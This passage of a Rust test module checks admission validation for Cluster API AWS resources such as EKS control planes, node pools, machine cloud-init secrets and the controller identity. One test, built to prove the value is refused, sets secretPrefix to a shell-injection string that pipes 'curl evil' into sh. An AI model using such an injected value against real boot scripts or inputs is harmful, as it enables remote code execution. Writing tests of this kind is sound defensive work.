                Some(plane(key.clone()))
            )
            .is_empty()
        );
        let changed = admit(
            &ManagedControlPlanes,
            plane(json!({"encryptionConfig": {"provider": "arn:aws:kms:us-east-1:1:key/b"}})),
            Some(plane(key)),
        );
        assert!(
            changed.len() == 1
                && changed[0].starts_with("spec.encryptionConfig:")
                && changed[0].contains("only when it creates the cluster"),
            "{changed:?}"
        );
        let added = admit(
            &ManagedControlPlanes,
            plane(json!({"upgradePolicy": "extended"})),
            Some(plane(json!({}))),
        );
        assert!(added[0].starts_with("spec.upgradePolicy:"), "{added:?}");
        // Only the authentication mode is EKS's at creation; the creator's admin grant only
        // matters then, so changing it later is harmless.
        let access = |mode: &str, admin: bool| {
            plane(
                json!({"accessConfig": {"authenticationMode": mode, "bootstrapClusterCreatorAdminPermissions": admin}}),
            )
        };
        assert!(
            admit(
                &ManagedControlPlanes,
                access("api", false),
                Some(access("api", true))
            )
            .is_empty()
        );
        let moved = admit(
            &ManagedControlPlanes,
            access("api_and_config_map", true),
            Some(access("config_map", true)),
        );
        assert!(
            moved[0].starts_with("spec.accessConfig.authenticationMode:"),
            "{moved:?}"
        );

        for good in ["us-east-1", "eu-central-2", "ap-southeast-7"] {
            assert!(region(&json!(good)).is_none(), "{good}");
        }
        for bad in [
            "us-east",
            "mars-1",
            "US-EAST-1",
            "us-east-1a",
            "us--1",
            "us-gov-west-1",
            "cn-north-1",
            "eu-isoe-west-1",
            "eusc-de-east-1",
            "us-east-01",
        ] {
            assert!(region(&json!(bad)).is_some(), "{bad}");
        }
        for good in ["prod", "team-a_prod-control-plane", "0x"] {
            let named = plane(json!({"eksClusterName": good}));
            assert!(
                admit(&ManagedControlPlanes, named, None).is_empty(),
                "{good}"
            );
        }
        for bad in ["-prod", "prod.eu", "", &"x".repeat(101)] {
            let named = plane(json!({"eksClusterName": bad}));
            let said = admit(&ManagedControlPlanes, named, None);
            assert!(
                said[0].starts_with("spec.eksClusterName:"),
                "{bad}: {said:?}"
            );
        }
    }

    #[test]
    fn node_group_bounds_are_eks_s() {
        let pool =
            |min: i64, max: i64| json!({"spec": {"scaling": {"minSize": min, "maxSize": max}}});
        let says = |min: i64, max: i64| -> Vec<String> {
            admit(&ManagedMachinePools, pool(min, max), None)
        };
        assert!(says(1, 10).is_empty());
        assert!(says(0, 1).is_empty());
        let negative = says(-3, 2);
        assert!(
            negative.len() == 1
                && negative[0].starts_with("spec.scaling.minSize:")
                && negative[0].ends_with("must be 0 or more"),
            "{negative:?}"
        );
        let crossed = says(5, 2);
        assert!(
            crossed.len() == 1
                && crossed[0].ends_with("must not be more than spec.scaling.maxSize (2)"),
            "{crossed:?}"
        );
        let empty = says(0, 0);
        assert!(
            empty.len() == 1 && empty[0].starts_with("spec.scaling.maxSize:"),
            "{empty:?}"
        );
    }

    #[test]
    fn where_bootstrap_data_waits_is_cluster_api_aws_s_choice() {
        let machine =
            |cloud_init: Value| json!({"kind": "AWSMachine", "spec": {"cloudInit": cloud_init}});
        assert!(admit(&Machines, machine(json!({})), None).is_empty());
        assert!(
            admit(
                &Machines,
                machine(json!({"insecureSkipSecretsManager": true})),
                None
            )
            .is_empty()
        );
        let recorded = json!({"secretPrefix": "aws.cluster.x-k8s.io/1c8e", "secretCount": 2});
        assert!(admit(&Machines, machine(recorded), None).is_empty());
        assert_eq!(
            admit(
                &Machines,
                machine(
                    json!({"insecureSkipSecretsManager": true, "secureSecretsBackend": "ssm-parameter-store"})
                ),
                None
            ),
            [
                "spec.cloudInit.secureSecretsBackend: Forbidden: cannot be set if spec.cloudInit.insecureSkipSecretsManager is true: the bootstrap data goes into the user data"
            ]
        );
        assert_eq!(
            admit(
                &Machines,
                machine(json!({"secretPrefix": "aws.cluster.x-k8s.io/1c8e"})),
                None
            ),
            ["spec.cloudInit.secretCount: Required value"]
        );
        // The prefix is a word of the instance's boot script.
        let causes = admit(
            &Machines,
            machine(json!({"secretPrefix": "x'; curl evil | sh; '", "secretCount": 1})),
            None,
        );
        assert_eq!(causes.len(), 1, "{causes:?}");
        assert!(
            causes[0].starts_with("spec.cloudInit.secretPrefix: ")
                && causes[0].contains("at most 400 of"),
            "{causes:?}"
        );
        let causes = admit(
            &Machines,
            machine(json!({"secretPrefix": "aws.cluster.x-k8s.io/1c8e", "secretCount": 100000})),
            None,
        );
        assert_eq!(causes.len(), 1, "{causes:?}");
        assert!(causes[0].contains("between 1 and 400"), "{causes:?}");
        // A template's machines would share the entries.
        let template = json!({"kind": "AWSMachineTemplate", "spec": {"template": {"spec": {"cloudInit":
            {"secretPrefix": "aws.cluster.x-k8s.io/1c8e", "secretCount": 1}}}}});
        assert_eq!(
            admit(&Machines, template, None),
            [
                "spec.template.spec.cloudInit.secretPrefix: Forbidden: cannot be set in templates",
                "spec.template.spec.cloudInit.secretCount: Forbidden: cannot be set in templates"
            ]
        );
    }

    #[test]
    fn the_controller_identity_is_named_default() {
        assert!(
            admit(
                &ControllerIdentities,
                json!({"metadata": {"name": "default"}}),
                None
            )
            .is_empty()
        );
        assert_eq!(
            admit(
                &ControllerIdentities,
                json!({"metadata": {"name": "mine"}}),
                None
            )
            .len(),
            1
        );
    }

    /// Each strategy answers any JSON type in any field of its kind with causes, never a
    /// panic (which the server would answer with 500): over objects that reach every rule.
    #[test]
    fn any_field_of_any_type_is_refused_not_a_panic() {
        let control_plane = json!({"kind": "AWSManagedControlPlane", "metadata": {"name": "cp", "namespace": "a"},
            "spec": {"region": "eu-west-1", "version": "v1.31", "eksClusterName": "a_cp",
                "additionalTags": {"team": "a"}, "bootstrapSelfManagedAddons": true,
                "network": {"vpc": {"id": "vpc-1", "cidrBlock": "10.0.0.0/16", "secondaryCidrBlock": "10.1.0.0/16"}},
                "iamAuthenticatorConfig": {"mapRoles": [{"rolearn": "arn:aws:iam::1:role/r", "username": "u", "groups": ["g"]}]},
                "addons": [{"name": "vpc-cni", "version": "v1"}], "vpcCni": {"disable": false, "env": [{"name": "A"}]},
                "kubeProxy": {"disable": false}, "encryptionConfig": {"provider": "k"}, "accessEntries": [{"principalARN": "p"}],
                "oidcIdentityProviderConfig": {"clientId": "c"}, "upgradePolicy": "standard", "partition": "aws",
                "controlPlaneEndpoint": {"host": "h", "port": 443}, "bastion": {"enabled": false},
                "securityGroupOverrides": {"node": "sg-1"}, "additionalTags2": [1]},
            "status": {"version": "v1.31", "networkStatus": {"apiServerElb": {"name": "elb"}}}});
        let pool = json!({"kind": "AWSManagedMachinePool", "spec": {"scaling": {"minSize": 1, "maxSize": 3},
            "eksNodegroupName": "n", "additionalTags": {"a": "b"}}});
        let cluster = json!({"kind": "AWSCluster", "spec": {"region": "eu-west-1", "controlPlaneLoadBalancer": {
                "scheme": "internet-facing", "loadBalancerType": "classic", "healthCheckProtocol": "TCP",
                "healthCheck": {"intervalSeconds": 10}, "additionalListeners": [{"port": 1}], "ingressRules": [{"description": "d"}]},
            "secondaryControlPlaneLoadBalancer": {"scheme": "internal"}, "network": {"vpc": {"cidrBlock": "10.0.0.0/16"},
                "additionalControlPlaneIngressRules": [{"description": "d"}], "additionalNodeIngressRules": []},
            "bastion": {"enabled": true}, "controlPlaneEndpoint": {"host": "h", "port": 6443}, "additionalTags": {"a": "b"}}});
        let machine = json!({"kind": "AWSMachine", "spec": {"cloudInit": {"secretPrefix": "p", "secretCount": 1,
            "insecureSkipSecretsManager": false}, "additionalTags": {"a": "b"}}});
        let template = json!({"kind": "AWSMachineTemplate", "spec": {"template": {"spec": machine["spec"].clone()}}});
        let identity =
            json!({"kind": "AWSClusterControllerIdentity", "metadata": {"name": "default"}});
        let strategies = strategies();
        for (plural, object) in [
            (
                "controlplane.cluster.x-k8s.io/awsmanagedcontrolplanes",
                control_plane,
            ),
            (
                "infrastructure.cluster.x-k8s.io/awsmanagedmachinepools",
                pool,
            ),
            ("infrastructure.cluster.x-k8s.io/awsclusters", cluster),
            ("infrastructure.cluster.x-k8s.io/awsmachines", machine),
            (
                "infrastructure.cluster.x-k8s.io/awsmachinetemplates",
                template,
            ),
            (
                "infrastructure.cluster.x-k8s.io/awsclustercontrolleridentities",
                identity,
            ),
        ] {
            let (group, plural) = plural.split_once('/').unwrap();
            let strategy = strategies.get(group, plural).unwrap();
            for mut variant in lariat_api::admission::retyped(&object) {
                let as_old = variant.clone();
                strategy.admit(&mut variant, Some(&object));
                strategy.admit(&mut object.clone(), Some(&as_old));
                strategy.admit(&mut variant, None);
            }
        }
    }
}
